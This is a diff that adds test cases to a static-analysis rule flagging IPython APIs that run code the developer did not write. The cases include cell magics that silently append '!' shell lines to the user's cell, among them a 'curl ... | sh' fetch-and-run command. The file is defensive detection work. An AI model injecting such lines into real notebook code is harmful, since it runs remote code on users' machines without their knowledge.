@@ -99,7 +99,9 @@ class ClusterMagics(Magics):
     def setup(self, line):
         # ok: exec-ipython-shell
         self.shell.run_line_magic("load_ext", line)
-        # ok: exec-ipython-shell
+        # session 16: the line becomes the cell's second line, and a "!"
+        # there is a shell command
+        # ruleid: exec-ipython-shell
         self.shell.run_cell("import torch\n" + line)
         # ok: exec-ipython-shell
         self.shell.user_ns["trainer"] = line
@@ -127,3 +129,120 @@ def unload_ipython_extension(ip):
 def run_cmd(cmd):
     # ok: exec-ipython-shell
     return subprocess_output.run(cmd, shell=True).system
+
+
+# Issue #16, session 16: IPython's other code runners. A cell or code object
+# the code does not spell runs whatever it holds, "!" lines included.
+def replay_cells(cells, path):
+    for src in cells:
+        # ruleid: exec-ipython-shell
+        get_ipython().run_cell_async(src)
+        # ruleid: exec-ipython-shell
+        gi().run_code(compile(src, "<cell>", "exec"))
+        # ruleid: exec-ipython-shell
+        get_ipython().ex(src)
+        # ruleid: exec-ipython-shell
+        steps = get_ipython().ev(src)
+        # ruleid: exec-ipython-shell
+        get_ipython().runcode(src)
+        # ruleid: exec-ipython-shell
+        gi().run_ast_nodes(ast.parse(src).body, "<cell>")
+    # ruleid: exec-ipython-shell
+    get_ipython().safe_execfile(path, get_ipython().user_ns)
+    # ruleid: exec-ipython-shell
+    get_ipython().safe_execfile_ipy("setup_env.ipy")
+    # ruleid: exec-ipython-shell
+    get_ipython().safe_run_module("torch.utils.collect_env", get_ipython().user_ns)
+    # ruleid: exec-ipython-shell
+    get_ipython().run_cell_async("!pip install -q deepspeed")
+    # ruleid: exec-ipython-shell
+    getattr(get_ipython(), "ex")(src)
+    # ok: exec-ipython-shell
+    get_ipython().ex("import torch")
+    # ok: exec-ipython-shell
+    get_ipython().ev("torch.cuda.device_count()")
+    # ok: exec-ipython-shell
+    get_ipython().run_cell_async("trainer.fit(model)")
+    # ok: exec-ipython-shell
+    get_ipython().run_cell("%%time\nfor batch in loader:\n    loss = model(batch)\n")
+    # ok: exec-ipython-shell
+    get_ipython().run_cell(raw_cell="import torch", store_history=False)
+    # ruleid: exec-ipython-shell
+    get_ipython().run_cell(raw_cell=src, store_history=False)
+    # ruleid: exec-ipython-shell
+    get_ipython().run_cell("import torch\n!nvidia-smi -pm 1")
+    # ruleid: exec-ipython-shell
+    get_ipython().run_cell("gpus = !nvidia-smi -L")
+    # ruleid: exec-ipython-shell
+    getattr(get_ipython(), "run_cell")(src)
+    # ok: exec-ipython-shell
+    steps = get_ipython().user_ns["ex"](src)
+    # ok: exec-ipython-shell
+    torch.distributions.Exponential(rate).ex(src)
+
+
+@magics_class
+class ReplayMagics(Magics):
+    @cell_magic
+    def safe_exec(self, line, cell):
+        # ruleid: exec-ipython-shell
+        self.shell.ex(cell)
+        # ruleid: exec-ipython-shell
+        self.shell.run_code(cell)
+        # ruleid: exec-ipython-shell
+        self.shell.safe_execfile(line)
+
+    # A cell magic that edits the cell it was given before running it: the
+    # edit can add "!" lines the user never wrote.
+    @cell_magic
+    def profile(self, line, cell):
+        cell = cell + "\n" + "!curl -s https://example.org/p | sh"
+        # ruleid: exec-ipython-shell
+        self.shell.run_cell(cell)
+
+    @cell_magic
+    def amp(self, line, cell):
+        cell += _PAYLOAD
+        # ruleid: exec-ipython-shell
+        self.shell.run_cell(cell)
+
+    @cell_magic
+    def on_gpu(self, line, cell):
+        cell = f"{cell}\n{_PAYLOAD}"
+        # ruleid: exec-ipython-shell
+        self.shell.run_cell(cell)
+
+    @cell_magic
+    def timed(self, line, cell):
+        # ruleid: exec-ipython-shell
+        self.shell.run_cell(cell + "\n" + _PAYLOAD)
+        # ruleid: exec-ipython-shell
+        self.shell.run_cell(f"{cell}\n{_PAYLOAD}")
+        # ruleid: exec-ipython-shell
+        self.shell.run_cell_async(_PAYLOAD + cell)
+
+    @cell_magic
+    def seeded(self, line, cell):
+        for cell in _PAYLOADS:
+            # ruleid: exec-ipython-shell
+            self.shell.run_cell(cell)
+
+    @cell_magic
+    def quiet(self, line, cell):
+        # a look-alike: the cell is only read, then run as given
+        n_lines = len(cell.splitlines())
+        self.log(n_lines, line)
+        # ok: exec-ipython-shell
+        self.shell.run_cell(cell)
+
+    @cell_magic
+    async def quiet_async(self, line, cell):
+        # ok: exec-ipython-shell
+        await self.shell.run_cell_async(cell)
+
+    @cell_magic
+    def strip_cell(self, line, cell):
+        text = cell.strip()
+        # ok: exec-ipython-shell
+        self.shell.run_cell(cell)
+        return text
